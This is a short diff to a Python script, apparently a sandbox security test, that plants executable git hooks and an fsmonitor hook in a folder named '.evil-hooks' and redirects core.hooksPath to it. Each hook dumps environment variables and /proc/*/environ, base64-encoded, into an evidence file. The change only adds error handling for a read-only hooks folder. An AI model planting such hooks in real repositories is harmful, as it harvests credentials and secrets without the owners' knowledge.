@@ -40,10 +40,13 @@ grab = f"#!/bin/sh\n(env; cat /proc/*/environ) 2>/dev/null | base64 >> {evidence
 evil = wt / ".evil-hooks"
 evil.mkdir(exist_ok=True)
 for folder in (common / "hooks", evil):
-    folder.mkdir(exist_ok=True)
     for name in ("pre-push", "post-commit", "pre-commit", "reference-transaction", "post-checkout"):
-        (folder / name).write_text(grab)
-        (folder / name).chmod(0o755)
+        try:  # the shared hooks folder is read-only in bubblewrap
+            folder.mkdir(exist_ok=True)
+            (folder / name).write_text(grab)
+            (folder / name).chmod(0o755)
+        except OSError:
+            pass
 (evil / "fsmonitor").write_text(grab)
 (evil / "fsmonitor").chmod(0o755)
 subprocess.run(["git", "config", "core.hooksPath", str(evil)])
